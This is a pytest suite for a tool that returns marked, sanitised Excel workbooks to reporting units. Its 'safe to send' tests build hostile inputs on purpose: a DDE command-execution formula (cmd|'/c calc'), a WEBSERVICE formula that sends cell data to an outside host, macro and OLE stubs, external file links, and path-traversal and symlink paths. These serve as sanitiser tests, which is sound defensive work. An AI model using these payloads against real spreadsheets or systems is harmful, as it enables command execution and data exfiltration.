"""A unit with errors gets its own workbook back, marked, safe, and fit to be sent in again."""

from __future__ import annotations

import io
import re
import zipfile
from collections.abc import Callable, Mapping
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from audit_job import UNITS, AuditJob, Clerk, cell_of, rows_of, saved
from openpyxl.comments import Comment

from make_docx.audit import Return, write_returns
from make_docx.audit.returned import returned_copy
from make_docx.audit.returns import LIST_FILE
from make_docx.catalogue import finding
from make_docx.findings import Finding, Place
from make_docx.intake import names
from make_docx.model import Checked, FileRecord, FileStatus

BAD = UNITS[0]
MARKED = ("FFFFB3A8", "FFFFE08A")


@pytest.fixture
def job(tmp_path: Path) -> AuditJob:
    return AuditJob(tmp_path)


def returned(job: AuditJob) -> dict[str, Return]:
    _, returns, _ = job.run(with_returns=True)
    return {one.unit or one.file: one for one in returns}


def marks(sheet: Any) -> dict[str, str]:
    """The commented cells and their comments; each of them is coloured."""
    found = {}
    for row in sheet.iter_rows():
        for cell in row:
            if cell.fill.fgColor.rgb in MARKED:
                assert cell.comment is not None
            if cell.comment:
                found[cell.coordinate] = cell.comment.text
    return found


# ── the copy ─────────────────────────────────────────────────────────────────────────────


def test_wrong_cells_are_coloured_and_say_what_to_do(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O", "发放资料": None})
    one = returned(job)[BAD]
    assert one.copy == f"输出/退回/{BAD}.xlsx"
    sheet: Any = openpyxl.load_workbook(job.folder / one.copy)[names.FORM_SHEET]
    found = marks(sheet)
    assert set(found) == {"D10", "D11"}
    assert "12O" in found["D10"]
    assert "请改成一个数字" in found["D10"]
    assert sheet["D10"].fill.fgColor.rgb == sheet["D11"].fill.fgColor.rgb == MARKED[0]
    assert sheet["D10"].value == "12O"


def test_the_last_sheet_lists_everything_in_plain_sentences(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O", "发放资料": None})
    one = returned(job)[BAD]
    book: Any = openpyxl.load_workbook(job.folder / one.copy)
    assert book.sheetnames[-1] == names.RETURN_SHEET
    sheet = book[names.RETURN_SHEET]
    assert BAD in sheet["B1"].value
    assert [sheet[f"C{row}"].value for row in (5, 6)] == [
        line.partition("：")[2] for line in one.lines
    ]
    assert sheet["B5"].hyperlink.location == "'填报表'!D10"
    assert not any("单位重新" in line for line in one.lines)  # it is the unit that reads it


def test_a_corrected_copy_is_accepted_without_a_word(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O", "发放资料": None})
    copy = job.folder / returned(job)[BAD].copy
    book: Any = openpyxl.load_workbook(copy)
    book[names.FORM_SHEET]["D10"].value = 12
    book[names.FORM_SHEET]["D11"].value = 300
    job.put(f"{BAD}.xlsx", saved(book))
    reviewed, returns, _ = job.run(with_returns=True)
    assert [f.code for f in reviewed.outcome.findings] == []
    assert BAD in {report.unit.name for report in reviewed.outcome.checked.reports}
    assert returns == ()
    assert not job.returns.exists()


def test_the_form_in_the_copy_is_the_form_that_was_sent_out(job: AuditJob) -> None:
    path = job.send(BAD, {"悬挂横幅": "12O"})
    before: Any = openpyxl.load_workbook(path)
    after: Any = openpyxl.load_workbook(job.folder / returned(job)[BAD].copy)
    assert set(after.defined_names) == set(before.defined_names)
    assert after.sheetnames == [*before.sheetnames, names.RETURN_SHEET]
    for sheet in before:
        other = after[sheet.title]
        assert other.protection.sheet == sheet.protection.sheet
        assert len(other.data_validations.dataValidation) == len(
            sheet.data_validations.dataValidation
        )
        assert other.merged_cells.ranges == sheet.merged_cells.ranges
        assert other.sheet_state == sheet.sheet_state
        for row in sheet.iter_rows():
            for cell in row:
                assert other[cell.coordinate].value == cell.value
    assert not after[names.FORM_SHEET]["D10"].protection.locked


def test_a_second_return_has_the_marks_of_the_second_run_only(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O", "发放资料": None})
    copy = job.folder / returned(job)[BAD].copy
    book: Any = openpyxl.load_workbook(copy)
    book[names.FORM_SHEET]["D10"].value = 12
    job.put(f"{BAD}.xlsx", saved(book))
    again: Any = openpyxl.load_workbook(job.folder / returned(job)[BAD].copy)
    sheet = again[names.FORM_SHEET]
    assert set(marks(sheet)) == {"D11"}
    clean: Any = openpyxl.load_workbook(io.BytesIO(saved(job.filled(BAD, {}))))
    assert sheet["D10"].fill.fgColor.rgb == clean[names.FORM_SHEET]["D10"].fill.fgColor.rgb
    assert again.sheetnames.count(names.RETURN_SHEET) == 1
    assert again.sheetnames[-1] == names.RETURN_SHEET


def test_a_comment_of_the_units_own_stays(job: AuditJob) -> None:
    book = job.filled(BAD, {"悬挂横幅": "12O"})
    book[names.FORM_SHEET]["D11"].comment = Comment("含村级", "填报人")
    book[names.FORM_SHEET]["D10"].comment = Comment("待核", "填报人")
    job.put(f"{BAD}.xlsx", saved(book))
    sheet: Any = openpyxl.load_workbook(job.folder / returned(job)[BAD].copy)[names.FORM_SHEET]
    assert sheet["D11"].comment.text == "含村级"
    assert sheet["D10"].comment.text.startswith("【校核】“悬挂横幅”")
    assert sheet["D10"].comment.text.endswith("待核")


def test_a_warning_beside_an_error_is_marked_otherwise(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": 13_000_000_000, "发放资料": "1O"})
    sheet: Any = openpyxl.load_workbook(job.folder / returned(job)[BAD].copy)[names.FORM_SHEET]
    assert [sheet[cell].fill.fgColor.rgb for cell in ("D10", "D11")] == [MARKED[1], MARKED[0]]
    assert sheet["D10"].comment.text.startswith("【校核】请核对：")


def test_a_file_with_nothing_but_warnings_is_not_returned(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": 13_000_000_000})
    assert returned(job) == {}


def test_reports_that_the_clerk_has_to_choose_from_are_not_returned(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": 11}, name="另一份.xlsx")
    reviewed, returns, _ = job.run(with_returns=True)
    assert "unit-duplicate" in job.codes(reviewed)
    assert returns == ()


def test_a_file_that_cannot_be_opened_is_listed_without_a_copy(job: AuditJob) -> None:
    job.put(f"{BAD}.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(99))
    one = returned(job)[f"收件/{BAD}.xlsx"]
    assert one.copy == ""
    assert one.lines
    (row,) = [row for row in rows_of(job.report, "收到的文件") if row["文件"] == one.file]
    assert (row["结果"], row["退回件"]) == ("有错，要改正", None)


def test_the_report_names_and_opens_the_copy(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O"})
    returned(job)
    sheet: Any = openpyxl.load_workbook(job.report)["收到的文件"]
    links = {cell.value: cell.hyperlink.target for (cell,) in sheet["E5:E12"] if cell.value}
    assert links == {f"输出/退回/{BAD}.xlsx": f"../输出/退回/{BAD}.xlsx"}


def test_the_same_run_writes_the_same_bytes(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O"})
    first = (job.folder / returned(job)[BAD].copy).read_bytes()
    assert (job.folder / returned(job)[BAD].copy).read_bytes() == first


# ── the folder ───────────────────────────────────────────────────────────────────────────


def copies(job: AuditJob) -> set[str]:
    return {path.name for path in job.returns.iterdir()}


def test_copies_of_former_runs_go_when_the_unit_has_corrected(job: AuditJob) -> None:
    for unit in UNITS[:2]:
        job.send(unit, {"悬挂横幅": "12O"})
    returned(job)
    job.send(BAD, {})
    returned(job)
    assert copies(job) == {f"{UNITS[1]}.xlsx", LIST_FILE}


def test_what_the_clerk_edited_or_put_there_is_never_touched(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O"})
    returned(job)
    edited = job.returns / f"{BAD}.xlsx"
    book: Any = openpyxl.load_workbook(edited)
    book[names.FORM_SHEET]["F10"].value = "请尽快"
    book.save(edited)
    (job.returns / f"{UNITS[1]}.xlsx").write_bytes(b"mine")
    data = edited.read_bytes()
    for unit in UNITS[:2]:
        job.send(unit, {"悬挂横幅": "13O"})
    _, returns, notes = job.run(with_returns=True)
    written = {one.copy for one in returns}
    assert written == {f"输出/退回/{unit}（2）.xlsx" for unit in UNITS[:2]}
    assert [(note.code, note.place.file) for note in notes] == [
        ("return-edited", f"输出/退回/{BAD}.xlsx")
    ]
    assert edited.read_bytes() == data
    assert (job.returns / f"{UNITS[1]}.xlsx").read_bytes() == b"mine"
    for unit in UNITS[:2]:
        job.send(unit, {})
    returned(job)
    assert copies(job) == {f"{BAD}.xlsx", f"{UNITS[1]}.xlsx"}


def test_the_clerks_own_workbook_is_never_returned(tmp_path: Path) -> None:
    record = FileRecord("某局.xlsx", FileStatus.REJECTED)
    found = finding("cell-negative", Place("某局.xlsx", "数据", "C5", "悬挂横幅"), found="-1")
    (tmp_path / "某局.xlsx").write_bytes(b"")
    folder = tmp_path / "输出" / "退回"
    assert write_returns(tmp_path, folder, Checked((), (), files=(record,)), [found]) == ((), ())
    assert not folder.exists()


@pytest.mark.parametrize(
    "line", ["{0}  ../公文要素.xlsx", "{0}  /公文要素.xlsx", "{0}  子/公文要素.xlsx", "乱写"]
)
def test_a_list_that_points_out_of_the_folder_deletes_nothing(job: AuditJob, line: str) -> None:
    import hashlib

    brief = job.folder / "公文要素.xlsx"
    job.returns.mkdir(parents=True)
    digest = hashlib.sha256(brief.read_bytes()).hexdigest()
    (job.returns / LIST_FILE).write_text(line.format(digest), encoding="utf-8")
    returned(job)
    assert brief.exists()


def test_the_notice_is_one_file_of_ours_among_the_copies(job: AuditJob) -> None:
    job.send(BAD, {"悬挂横幅": "12O"})
    outcome = job.run()[0].outcome

    def write(text: str) -> set[str]:
        write_returns(
            job.folder,
            job.returns,
            outcome.checked,
            outcome.findings,
            lambda returns: f"{text}{len(returns)}".encode(),
        )
        return copies(job)

    assert write("甲") == write("乙") == {f"{BAD}.xlsx", "退回说明.docx", LIST_FILE}
    assert (job.returns / "退回说明.docx").read_text("utf-8") == "乙1"
    (job.returns / "退回说明.docx").write_bytes("改过".encode())
    assert "退回说明（2）.docx" in write("丙")
    assert (job.returns / "退回说明.docx").read_text("utf-8") == "改过"


def test_files_of_unknown_units_go_by_their_own_names_and_never_clash(job: AuditJob) -> None:
    bad = saved(job.filled("没有的单位", {"悬挂横幅": "12O"}))
    (job.folder / "收件" / "子").mkdir()
    for name in ("a.xlsx", "A.XLSX", "子/a.xlsx"):
        job.put(name, bad)
    _, returns, _ = job.run(with_returns=True)
    written = [one.copy.rpartition("/")[2] for one in returns]
    assert len(written) == len({name.casefold() for name in written}) == 3
    assert copies(job) == {*written, LIST_FILE}
    assert all((job.folder / one.copy).parent == job.returns for one in returns)


# ── safe to send ─────────────────────────────────────────────────────────────────────────

NOT_NUMBER = finding(
    "cell-not-number", Place("收件/甲.xlsx", "填报表", "D10", "悬挂横幅"), found="12O"
)
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"

Edit = Callable[[dict[str, bytes]], None]


def edited(data: bytes, edit: Edit) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    edit(parts)
    target = io.BytesIO()
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as out:
        for name, part in parts.items():
            out.writestr(name, part)
    return target.getvalue()


def add_relation(
    parts: dict[str, bytes], name: str, kind: str, target: str, *, external: bool = False
) -> str:
    mode = ' TargetMode="External"' if external else ""
    id_ = f"rId{900 + len(parts)}"
    added = (
        f'<Relationship Id="{id_}" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    )
    empty = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b"</Relationships>"
    )
    parts[name] = parts.get(name, empty).replace(b"</Relationships>", added.encode())
    return id_


WORKBOOK_RELS = "xl/_rels/workbook.xml.rels"
SHEET = "xl/worksheets/sheet2.xml"
SHEET_RELS = "xl/worksheets/_rels/sheet2.xml.rels"


def macros(parts: dict[str, bytes]) -> None:
    parts["xl/vbaProject.bin"] = b"\xd0\xcf\x11\xe0"
    add_relation(parts, WORKBOOK_RELS, "vbaProject", "vbaProject.bin")
    types = parts["[Content_Types].xml"]
    parts["[Content_Types].xml"] = types.replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
    )


def links(parts: dict[str, bytes]) -> None:
    parts["xl/externalLinks/externalLink1.xml"] = b"<externalLink/>"
    add_relation(
        parts,
        "xl/externalLinks/_rels/externalLink1.xml.rels",
        "externalLinkPath",
        "file:///C:/secret.xlsx",
        external=True,
    )
    id_ = add_relation(parts, WORKBOOK_RELS, "externalLink", "externalLinks/externalLink1.xml")
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"<definedNames>",
        f'<externalReferences><externalReference xmlns:r="{REL}" r:id="{id_}"/>'
        "</externalReferences><definedNames>"
        '<definedName name="外">[1]表!$A$1</definedName>'.encode(),
    )
    sheet = parts[SHEET].decode()
    sheet = re.sub(
        r'(<c r="D11"[^>]*?)( t="n")?\s*>.*?</c>', r"\1><f>[1]表!A1*2</f><v>77</v></c>", sheet
    )
    sheet = re.sub(r'(<c r="D12"[^>]*?)( t="n")?\s*/>', r"\1><f>D11+1</f><v>78</v></c>", sheet)
    parts[SHEET] = sheet.encode()


def connections(parts: dict[str, bytes]) -> None:
    parts["xl/connections.xml"] = b"<connections/>"
    add_relation(parts, WORKBOOK_RELS, "connections", "connections.xml")
    parts["xl/queryTables/queryTable1.xml"] = b"<queryTable/>"
    add_relation(parts, SHEET_RELS, "queryTable", "../queryTables/queryTable1.xml")


def objects(parts: dict[str, bytes]) -> None:
    parts["xl/embeddings/oleObject1.bin"] = b"MZ"
    id_ = add_relation(parts, SHEET_RELS, "oleObject", "../embeddings/oleObject1.bin")
    control = (
        f'<oleObjects xmlns:r="{REL}"><oleObject progId="Package" shapeId="1" r:id="{id_}"/>'
        "</oleObjects>"
    )
    parts[SHEET] = parts[SHEET].replace(b"</worksheet>", control.encode() + b"</worksheet>")


def hyperlinks(parts: dict[str, bytes]) -> None:
    id_ = add_relation(parts, SHEET_RELS, "hyperlink", "http://example.com/", external=True)
    link = (
        f'<hyperlinks xmlns:r="{REL}"><hyperlink ref="B1" r:id="{id_}"/></hyperlinks><printOptions'
    )
    parts[SHEET] = parts[SHEET].replace(b"<printOptions", link.encode(), 1)


def root_extras(parts: dict[str, bytes]) -> None:
    parts["customUI/customUI.xml"] = b"<customUI/>"
    parts["_rels/.rels"] = parts["_rels/.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdUI" Type="http://schemas.microsoft.com/office/2006/relationships/ui/'
        b'extensibility" Target="customUI/customUI.xml"/></Relationships>',
    )


UNSAFE: Mapping[str, Edit] = {
    "macros": macros,
    "links": links,
    "connections": connections,
    "objects": objects,
    "hyperlinks": hyperlinks,
    "root": root_extras,
}


@pytest.mark.parametrize("edit", UNSAFE.values(), ids=list(UNSAFE))
def test_what_acts_or_points_away_does_not_travel(job: AuditJob, edit: Edit) -> None:
    data = edited(saved(job.filled(BAD, {"悬挂横幅": "12O"})), edit)
    copy = returned_copy(data, [NOT_NUMBER], "甲")
    assert copy is not None
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    assert not [
        name
        for name in parts
        if re.search("vba|external|connection|queryTable|embedding|customUI", name, re.IGNORECASE)
    ]
    for name, part in parts.items():
        for word in (b"TargetMode", b"macroEnabled", b"oleObject", b"[1]", b"externalReference"):
            assert word not in part, (name, word)
    book: Any = openpyxl.load_workbook(io.BytesIO(copy))
    assert book[names.FORM_SHEET]["D10"].comment is not None


def test_a_formula_that_looked_into_another_file_keeps_its_value(job: AuditJob) -> None:
    data = edited(saved(job.filled(BAD, {"悬挂横幅": "12O"})), links)
    copy = returned_copy(data, [NOT_NUMBER], "甲")
    assert copy is not None
    formulas: Any = openpyxl.load_workbook(io.BytesIO(copy))[names.FORM_SHEET]
    values: Any = openpyxl.load_workbook(io.BytesIO(copy), data_only=True)[names.FORM_SHEET]
    assert (formulas["D11"].value, values["D11"].value) == (77, 77)


def test_a_formula_of_the_workbooks_own_keeps_formula_and_value(job: AuditJob) -> None:
    def calculate(parts: dict[str, bytes]) -> None:
        sheet = re.sub(
            r'(<c r="D11"[^>]*?)( t="n")?\s*>.*?</c>',
            r"\1><f>250*2</f><v>500</v></c>",
            parts[SHEET].decode(),
        )
        parts[SHEET] = sheet.encode()

    job.put(f"{BAD}.xlsx", edited(saved(job.filled(BAD, {"悬挂横幅": "12O"})), calculate))
    copy = job.folder / returned(job)[BAD].copy
    formulas: Any = openpyxl.load_workbook(copy)[names.FORM_SHEET]
    values: Any = openpyxl.load_workbook(copy, data_only=True)[names.FORM_SHEET]
    assert (formulas["D11"].value, values["D11"].value) == ("=250*2", 500)


@pytest.mark.parametrize(
    "formula",
    [
        'WEBSERVICE("http://example.com/?"&amp;D10)',
        'HYPERLINK("http://example.com","点")',
        "[甲.xlsx]表!A1",
        "cmd|'/c calc'!A1",
        '_xlfn.IMAGE("http://example.com/a.png")',
    ],
)
def test_formulas_that_reach_out_are_gone(job: AuditJob, formula: str) -> None:
    def write(parts: dict[str, bytes]) -> None:
        sheet = parts[SHEET].decode()
        pattern = r'(<c r="D11"[^>]*?)( t="n")?\s*>.*?</c>'
        parts[SHEET] = re.sub(
            pattern, lambda m: f"{m[1]}><f>{formula}</f><v>5</v></c>", sheet
        ).encode()

    copy = returned_copy(edited(saved(job.filled(BAD, {})), write), [NOT_NUMBER], "甲")
    assert copy is not None
    sheet: Any = openpyxl.load_workbook(io.BytesIO(copy))[names.FORM_SHEET]
    assert sheet["D11"].value == 5


def test_pictures_stay(job: AuditJob) -> None:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        body = kind + data
        return struct.pack(">I", len(data)) + body + struct.pack(">I", zlib.crc32(body))

    png = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
    png += chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")

    def put(parts: dict[str, bytes]) -> None:
        parts["xl/media/image1.png"] = png
        parts["xl/cellimages.xml"] = (
            b'<etc:cellImages xmlns:etc="http://www.wps.cn/officeDocument/2017/etCustomData"/>'
        )
        types = parts["[Content_Types].xml"]
        parts["[Content_Types].xml"] = types.replace(
            b"</Types>",
            b'<Default Extension="png" ContentType="image/png"/>'
            b'<Override PartName="/xl/cellimages.xml" '
            b'ContentType="application/vnd.wps-officedocument.cellimage+xml"/></Types>',
        )
        added = (
            b'<Relationship Id="rIdWps" Type="http://www.wps.cn/officeDocument/2020/cellImage" '
            b'Target="cellimages.xml"/></Relationships>'
        )
        parts[WORKBOOK_RELS] = parts[WORKBOOK_RELS].replace(b"</Relationships>", added)
        add_relation(parts, "xl/_rels/cellimages.xml.rels", "image", "media/image1.png")

    copy = returned_copy(edited(saved(job.filled(BAD, {})), put), [NOT_NUMBER], "甲")
    assert copy is not None
    with zipfile.ZipFile(io.BytesIO(copy)) as archive:
        assert archive.read("xl/media/image1.png") == png
        assert "xl/cellimages.xml" in archive.namelist()


def test_words_of_findings_are_text_in_comments_and_on_the_last_sheet(job: AuditJob) -> None:
    words = "=1+1<b>&\x00"
    place = Place("收件/甲.xlsx", "填报表", "D10", words)
    found: Finding = finding("cell-not-number", place, found=words)
    copy = returned_copy(saved(job.filled(BAD, {})), [found], words)
    assert copy is not None
    book: Any = openpyxl.load_workbook(io.BytesIO(copy))
    assert "=1+1<b>&" in book[names.FORM_SHEET]["D10"].comment.text
    sheet = book[names.RETURN_SHEET]
    assert (sheet["B1"].value, sheet["B1"].data_type) == ("=1+1<b>&：请改正后重新报送", "s")


def test_a_cell_inside_a_merge_and_one_that_is_not_there_are_marked(job: AuditJob) -> None:
    findings = [
        finding("cell-required", Place("收件/甲.xlsx", "填报表", cell, "某项"))
        for cell in ("E5", "H40", "A200")
    ]
    copy = returned_copy(saved(job.filled(BAD, {})), findings, "甲")
    assert copy is not None
    sheet: Any = openpyxl.load_workbook(io.BytesIO(copy))[names.FORM_SHEET]
    assert set(marks(sheet)) == {"D5", "H40", "A200"}


def test_cells_that_are_not_there_are_made_in_their_order(job: AuditJob) -> None:
    book: Any = openpyxl.Workbook()
    book.active.title = "数"
    book.active["B3"], book.active["D3"], book.active["C7"] = 1, 2, 3
    spots = ["E3", "A3", "C3", "A9", "B5", "A5", "B1"]
    places = [Place("收件/甲.xlsx", "数", spot) for spot in spots]
    wrong = [finding("cell-error", place, found="#REF!") for place in places]
    copy = returned_copy(saved(book), wrong, "退回")
    assert copy
    sheet = zipfile.ZipFile(io.BytesIO(copy)).read("xl/worksheets/sheet1.xml").decode()
    cells = re.findall(r'<c r="([A-Z]+[0-9]+)"', sheet)
    assert cells == ["B1", "A3", "B3", "C3", "D3", "E3", "A5", "B5", "C7", "A9"]
    assert re.findall(r'<row r="([0-9]+)"', sheet) == ["1", "3", "5", "7", "9"]


def test_places_that_are_no_cells_are_only_in_the_list(job: AuditJob) -> None:
    findings = [
        finding("form-empty", Place("收件/甲.xlsx")),
        finding("sheet-unread", Place("收件/甲.xlsx", "没有的表"), found="1", expected="填报表"),
        finding("cell-required", Place("收件/甲.xlsx", "没有的表", "B2", "某项")),
    ]
    copy = returned_copy(saved(job.filled(BAD, {})), findings, "甲")
    assert copy is not None
    book: Any = openpyxl.load_workbook(io.BytesIO(copy))
    assert marks(book[names.FORM_SHEET]) == {}
    listed = [row[1] for row in book[names.RETURN_SHEET].iter_rows(min_row=5, values_only=True)]
    assert listed == ["整个文件", "没有的表 B2 “某项”", "没有的表"]


@pytest.mark.parametrize("size", range(0, 9000, 900))
def test_no_damaged_file_raises(job: AuditJob, size: int) -> None:
    data = bytearray(saved(job.filled(BAD, {})))
    assert returned_copy(bytes(data[:size]), [NOT_NUMBER], "甲") is None
    data[size] ^= 0xFF
    returned_copy(bytes(data), [NOT_NUMBER], "甲")


def test_a_return_never_touches_the_clerks_decisions(job: AuditJob) -> None:
    job.send(UNITS[1], {"悬挂横幅": 5000})
    job.run()
    clerk = Clerk(job.report)
    clerk.write(clerk.row("value-outlier"), "确认", "已核实")
    clerk.save()
    job.send(BAD, {"发放资料": "1O"})
    returned(job)
    assert [row["理由"] for row in rows_of(job.report, "处理记录")] == ["已核实"]


def test_the_cell_of_a_unit_without_its_name_is_marked(job: AuditJob) -> None:
    book = job.filled(BAD, {})
    cell = cell_of(book, names.head_name(names.UNIT_LABEL))
    book[names.FORM_SHEET][cell].value = "没有的单位"
    job.put(f"{BAD}.xlsx", saved(book))
    one = returned(job)[f"收件/{BAD}.xlsx"]
    sheet: Any = openpyxl.load_workbook(job.folder / one.copy)[names.FORM_SHEET]
    assert set(marks(sheet)) == {cell}


def test_a_copy_sent_back_as_it_was_is_marked_once(job: AuditJob) -> None:
    findings = [
        NOT_NUMBER,
        finding("sheet-unread", Place("收件/甲.xlsx", "填报说明", "C3"), found="x", expected=""),
    ]
    book = job.filled(BAD, {"悬挂横幅": "12O"})
    book[names.FORM_SHEET]["D10"].comment = Comment("待核", "填报人")
    first = returned_copy(saved(book), findings, "甲")
    assert first is not None
    second = returned_copy(first, findings, "甲")
    assert second is not None
    before, after = (openpyxl.load_workbook(io.BytesIO(copy)) for copy in (first, second))
    for title in before.sheetnames:
        assert marks(after[title]) == marks(before[title])
    assert after.sheetnames == before.sheetnames


def test_our_own_comments_are_known_without_their_author(job: AuditJob) -> None:
    copy = returned_copy(saved(job.filled(BAD, {})), [NOT_NUMBER], "甲")
    assert copy is not None

    def forget(parts: dict[str, bytes]) -> None:
        name = next(name for name in parts if "Comments" in name and name.endswith(".xml"))
        parts[name] = parts[name].replace(b"<author>make-docx</author>", b"<author> </author>")

    again = returned_copy(edited(copy, forget), [], "甲")
    assert again is not None
    sheet: Any = openpyxl.load_workbook(io.BytesIO(again))[names.FORM_SHEET]
    assert marks(sheet) == {}


@pytest.mark.parametrize(
    "path",
    ["收件/../../外.xlsx", "收件/链接.xlsx", "收件/夹/外.xlsx", "收件/../公文要素.xlsx"],
    ids=["up", "link", "link to a folder", "the clerk's own"],
)
def test_nothing_from_elsewhere_is_put_among_the_copies(job: AuditJob, path: str) -> None:
    outside = job.put("外.xlsx", saved(job.filled(BAD, {}))).rename(job.folder.parent / "外.xlsx")
    (job.folder / "收件" / "链接.xlsx").symlink_to(outside)
    (job.folder / "收件" / "夹").symlink_to(outside.parent)
    record = FileRecord(path, FileStatus.REJECTED, BAD)
    wrong = finding("cell-not-number", Place(path, "填报表", "D10"), found="12O")
    (one,), _ = write_returns(job.folder, job.returns, Checked((), (), files=(record,)), (wrong,))
    assert (one.file, one.copy) == (path, "")
    assert one.lines
    assert not job.returns.exists()
